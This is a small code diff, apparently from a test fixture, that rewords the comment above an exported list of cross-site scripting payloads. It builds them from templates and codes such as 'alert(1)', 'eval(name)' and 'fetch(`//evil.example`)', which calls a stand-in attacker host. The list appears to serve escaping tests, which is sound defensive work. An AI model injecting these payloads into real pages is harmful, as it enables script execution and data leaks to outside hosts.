@@ -22,5 +22,5 @@ const frames = [
 ]
 const codes = ['alert(1)', 'alert`1`', 'top.location=`//evil.example`', 'fetch(`//evil.example`)', 'eval(name)']
 
-/** A hundred texts that would run somewhere, if somewhere forgot to escape. */
+/** A hundred texts that would run in a page that forgets to escape them. */
 export const xssPayloads: readonly string[] = frames.flatMap((frame) => codes.map(frame))
